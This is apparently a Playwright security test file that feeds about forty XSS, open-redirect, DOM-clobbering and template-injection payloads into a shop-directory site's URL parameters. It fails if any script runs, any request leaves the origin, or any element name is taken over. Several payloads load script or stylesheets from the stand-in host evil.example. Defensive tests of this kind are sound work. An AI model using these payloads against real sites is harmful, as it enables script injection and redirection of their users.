import type { Page } from '@playwright/test';
import { expect, test } from '../../walker.ts';

/** Ways of bringing a script into a page through an address; each would open a dialog, load something or go away. */
const VECTORS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script src=//evil.example/x.js></script>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/',
  'https://evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button autofocus>x</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself
  '${alert(1)}',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\u2028alert(1)//',
  '<x id=clobbered name=body>',
  '<form id=clobbered><input name=body><input name=cookie></form>',
  '__proto__[x]=<img src=x onerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
const PLACES: ((vector: string) => string)[] = [
  (v) => `/casts/?text=${v}`,
  (v) => `/shops/?caba=${v}&girls=${v}&sexy=${v}`,
  (v) => `/shops/?lat=${v}&long=${v}`,
  (v) => `/casts/?date=${v}&sort=${v}`,
  (v) => `/shops/?text=${v}&cursor=${v}&budgetMax=${v}`,
  (v) => `/?message=${v}&redirect=${v}`,
  (v) => `/shops/#redirect=${v}`,
  (v) => `/#modal=${v}`,
  (v) => `/ranking/?${v}=${v}`,
];

/** What ran, was asked of strangers, or took over a name of the page. */
async function breaches(page: Page, address: string, origin: string): Promise<string[]> {
  const found: string[] = [];
  const onRequest = (request: { url: () => string }) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith('http') && host !== new URL(origin).host) found.push(`asked ${request.url()}`);
  };
  page.on('request', onRequest);
  await page.goto(address);
  // Whatever the page itself has to do is done, and what it led to has begun.
  await page.evaluate(() => new Promise((done) => requestIdleCallback(done, { timeout: 150 })));
  found.push(...(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)));
  if (!page.url().startsWith(origin)) found.push(`went to ${page.url()}`);
  const named = await page.evaluate(() =>
    // The frame of every page has one of these names itself.
    [...document.querySelectorAll('[id], [name]')]
      .filter((element) => !element.matches('body > div#app'))
      .map((element) => element.id || element.getAttribute('name') || '')
      .filter((name) => /^(clobbered|body|cookie|__proto__)$/.test(name)),
  );
  found.push(...named.map((name) => `an element is called ${name}`));
  page.off('request', onRequest);
  return found.map((breach) => `${address}: ${breach}`);
}

/** Dialogs are noted instead of shown. */
const listen = (page: Page) =>
  page.addInitScript(() => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    for (const name of ['alert', 'confirm', 'prompt', 'print'])
      Object.assign(window, { [name]: () => ran.push(`${name} ran`) });
  });

test.describe('S48: addresses', () => {
  test.describe('without the policy of the pages', () => {
    test.use({ bypassCSP: true });

    test('run nothing, ask no one and take over no name', async ({ page, baseURL }) => {
      test.setTimeout(180_000);
      await listen(page);
      for (const [i, vector] of VECTORS.entries()) {
        const written = encodeURIComponent(vector);
        const other = PLACES[i % PLACES.length] as (vector: string) => string;
        for (const address of [`/shops/?text=${written}`, other(written)])
          expect(await breaches(page, address, baseURL ?? '')).toEqual([]);
      }
    });
  });

  test('give the policy nothing to forbid', async ({ page, baseURL }) => {
    test.setTimeout(120_000);
    await listen(page);
    // A breach of the policy is a complaint on the console, which fails the test.
    for (const [i, vector] of VECTORS.entries()) {
      if (i % 3 !== 0) continue;
      expect(await breaches(page, `/shops/?text=${encodeURIComponent(vector)}`, baseURL ?? '')).toEqual([]);
    }
  });

  test('show what was searched for as it is', async ({ page }) => {
    const text = '<b>"月灯り" & \'宵待\'</b>';
    await page.goto(`/shops/?text=${encodeURIComponent(text)}`);
    await expect(page.locator('main')).toContainText(text);
  });
});
